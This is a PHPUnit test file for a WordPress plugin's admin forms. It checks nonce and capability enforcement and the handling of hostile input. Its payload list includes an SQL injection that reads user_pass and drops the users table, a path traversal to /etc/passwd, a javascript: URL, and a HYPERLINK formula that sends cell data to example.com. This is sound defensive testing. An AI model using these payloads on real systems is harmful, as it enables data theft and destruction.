<?php

declare( strict_types=1 );

namespace ScimPress\Tests\Admin;

use ScimPress\Tests\Support\Html;
use ScimPress\Tests\Support\ScreenTestCase;
use ScimPress\Tests\Support\Snapshot;

/**
 * Whatever is sent to the screen, or stands in its address: it is refused and nothing is changed, or it is done and
 * shown as text. Tabs, actions, forms and their fields are found, so new ones are held to it too.
 *
 * @group once
 */
final class FormsTest extends ScreenTestCase {

	/** Breaks out of text, of attributes in either quotes, and of elements whose content is text. */
	private const MARKUP = "</textarea></title></script>'\"><x-hostile onhostile='1'></x-hostile>\" onhostile=\"1\" ' onhostile='1' x=";

	/** Tried in each field alone too, beside what belongs into the others. */
	private const ONE_BY_ONE = array( 'markup', 'much', 'invalid UTF-8', 'a huge number', 'an array', 'no list' );

	/** What is stored of a form is never longer. */
	private const LONGEST = 20_000;

	/** @dataProvider every_tab */
	public function test_every_action_has_a_form( string $slug ): void {
		$found = array_column( array_column( $this->forms( $slug ), 1 ), 'scimpress_action' );
		foreach ( array_keys( $this->tabs()[ $slug ]->actions() ) as $action ) {
			self::assertContains( $action, $found, "no page of the tab {$slug} has the form: ScreenTestCase::furnish() has to give the tab what it takes" );
		}
		foreach ( $found as $action ) {
			self::assertArrayHasKey( $action, $this->tabs()[ $slug ]->actions(), 'a form that nobody performs' );
		}
	}

	/** @dataProvider every_tab */
	public function test_nothing_is_done_without_the_nonce_of_the_action_or_without_the_capability( string $slug ): void {
		$forms    = $this->forms( $slug );
		$editor   = self::wordpress_user( 'editor', 'editor' );
		$snapshot = Snapshot::taken();
		foreach ( $forms as list( $query, $fields ) ) {
			$action = $fields['scimpress_action'];
			foreach ( array( null, '', 'x', array( 'x' ), wp_create_nonce( 'scimpress_' ), wp_create_nonce( "scimpress_{$action}_" ), wp_create_nonce( -1 ) ) as $nonce ) {
				$this->assertForbidden( $query, array( ...$fields, '_wpnonce' => $nonce ), $action );
			}
			wp_set_current_user( $editor );
			$this->assertForbidden( $query, array( ...$fields, '_wpnonce' => wp_create_nonce( "scimpress_{$action}" ) ), $action );
			wp_set_current_user( 1 );
		}
		self::assertSame( array(), $snapshot->changed(), $slug );
	}

	public function test_what_is_sent_past_the_screen_is_guarded_as_well(): void {
		wp_set_current_user( self::wordpress_user( 'editor', 'editor' ) );
		$snapshot = Snapshot::taken();
		$found    = 0;
		foreach ( self::hooks_of_plugin() as $hook => $callbacks ) {
			self::assertStringStartsNotWith( 'admin_post_nopriv_', $hook );
			self::assertStringStartsNotWith( 'wp_ajax_', $hook );
			foreach ( str_starts_with( $hook, 'admin_post_' ) ? $callbacks : array() as $callback ) {
				$action = substr( $hook, strlen( 'admin_post_' ) );
				foreach ( array( array( 1, 'x' ), array( get_current_user_id(), wp_create_nonce( $action ) ) ) as list( $who, $nonce ) ) {
					wp_set_current_user( $who );
					$_SERVER['REQUEST_METHOD'] = 'POST';
					$_POST                     = array( 'action' => $action, '_wpnonce' => $nonce );
					$_REQUEST                  = $_POST;
					try {
						$callback();
						self::fail( "{$action} was done" );
					} catch ( \DomainException $refusal ) {
						self::assertSame( 403, $refusal->getCode(), $action );
					}
				}
				++$found;
			}
		}
		self::assertGreaterThan( 0, $found );
		self::assertSame( array(), $snapshot->changed() );
	}

	/** @dataProvider every_tab */
	public function test_hostile_values_in_a_form_are_refused_or_shown_as_text( string $slug ): void {
		$snapshot = Snapshot::taken();
		foreach ( $this->forms( $slug ) as list( $query, $fields ) ) {
			$all = array_diff_key( $fields, array_flip( array( 'scimpress_action', '_wpnonce', '_wp_http_referer' ) ) );
			foreach ( self::hostile_values() as $kind => $value ) {
				$own = 'no list' === $kind ? array_filter( $all, 'is_array' ) : $all;
				// Those of one field, with which the others are not, are tried where they could get further.
				$one_by_one = in_array( $kind, self::ONE_BY_ONE, true ) && count( $own ) > 1 ? array_map( static fn( string $name ) => array( $name ), array_keys( $own ) ) : array();
				foreach ( array() === $own ? array() : array( array_keys( $own ), ...$one_by_one ) as $names ) {
					$hostile = array();
					foreach ( $names as $name ) {
						// A list where there is a list, and something else in it.
						$hostile[ $name ] = is_array( $own[ $name ] ) && ! is_array( $value ) && 'no list' !== $kind ? array( $value, array( $value ) ) : $value;
					}
					$this->assertHarmless( $query, array( ...$fields, ...$hostile ), "{$fields['scimpress_action']}, {$kind} in " . implode( ', ', $names ), $snapshot );
				}
			}
		}
		self::assertSame( array(), $snapshot->changed() );
	}

	/** @dataProvider every_tab */
	public function test_hostile_values_in_an_address_change_nothing_and_are_shown_as_text( string $slug ): void {
		$snapshot = Snapshot::taken();
		foreach ( $this->queries( $slug ) as $query ) {
			foreach ( array_diff( array_keys( $query ), array( 'page', 'tab' ) ) as $name ) {
				foreach ( self::hostile_values() as $kind => $value ) {
					$this->assertText( $this->html( array( ...$query, $name => $value ) ), "{$slug}, {$kind} in {$name}" );
				}
			}
		}
		self::assertSame( array(), $snapshot->changed(), $slug );
	}

	/** @return array<string, mixed> */
	private static function hostile_values(): array {
		return array(
			'nothing'         => '',
			'markup'          => self::MARKUP,
			'an address'      => 'javascript:hostile()',
			'SQL'             => "1' OR '1'='1' UNION SELECT user_pass FROM wp_users; DROP TABLE wp_users; -- ",
			'a formula'       => '=HYPERLINK("http://example.com/?"&A1,"x")',
			'placeholders'    => '%s %1$s %99$d %',
			'a path'          => "../../../../etc/passwd\0.php",
			'one megabyte'    => str_repeat( 'é"', 350_000 ),
			'much'            => str_repeat( 'é"', 50_000 ),
			'invalid UTF-8'   => "\xC3\x28 \xF0\x28\x8C\xBC \xFF\xFE \xED\xA0\x80",
			'a negative'      => '-1',
			'a huge number'   => '99999999999999999999999',
			'nested JSON'     => str_repeat( '[', 5000 ) . str_repeat( ']', 5000 ),
			'an array'        => array( 'x' => array( self::MARKUP ), self::MARKUP => '1' ),
			'no list'         => self::MARKUP,
		);
	}

	/**
	 * Asserts that a form is refused and nothing is changed, or done and shown as text; puts everything back.
	 *
	 * @param array<string, mixed> $query
	 * @param array<string, mixed> $fields
	 */
	private function assertHarmless( array $query, array $fields, string $what, Snapshot $snapshot ): void {
		$this->open();
		try {
			$html = $this->sent( $query, $fields );
		} catch ( \DomainException $refusal ) {
			self::assertContains( $refusal->getCode(), array( 400, 403 ), $what );
			$html = '<div class="notice-error"></div>';
		}
		$this->assertText( $html, $what );
		if ( $this->is_refused( $html ) ) {
			self::assertSame( array(), $snapshot->changed(), $what );
		} else {
			self::assertStringNotContainsString( 'one megabyte', $what, 'was not refused' );
			self::assertLessThan( self::LONGEST, $snapshot->longest(), $what );
			$snapshot->restore();
		}
	}

	private function is_refused( string $html ): bool {
		return 1 === preg_match( '/notice-error|aria-invalid="true"/', $html );
	}

	/** Asserts that nothing hostile became part of a page but as text. */
	private function assertText( string $html, string $what ): void {
		self::assertTrue( mb_check_encoding( $html, 'UTF-8' ), "{$what}: the page is no UTF-8" );
		if ( ! str_contains( $html, 'hostile' ) ) {
			return;
		}
		$page = new Html( $html );
		self::assertCount( 0, $page->all( '//x-hostile | //*[@onhostile] | //*[starts-with(@href, "javascript:") or starts-with(@action, "javascript:") or starts-with(@src, "javascript:")]' ), $what );
	}

	/**
	 * @param array<string, mixed> $query
	 * @param array<string, mixed> $fields
	 */
	private function assertForbidden( array $query, array $fields, string $action ): void {
		try {
			$this->sent( $query, $fields );
			self::fail( "{$action} was done" );
		} catch ( \DomainException $refusal ) {
			self::assertSame( 403, $refusal->getCode(), $action );
		}
	}

	/**
	 * Every address within a tab, one of each kind.
	 *
	 * @return list<array<string, mixed>>
	 */
	private function queries( string $slug ): array {
		$queries = array();
		foreach ( $this->pages( $slug ) as list( , $page ) ) {
			foreach ( $page->queries() as $query ) {
				if ( $slug === ( $query['tab'] ?? array_key_first( $this->tabs() ) ) ) {
					$queries[ implode( ' ', array_keys( $query ) ) ] = $query;
				}
			}
		}
		return array_values( $queries );
	}
}
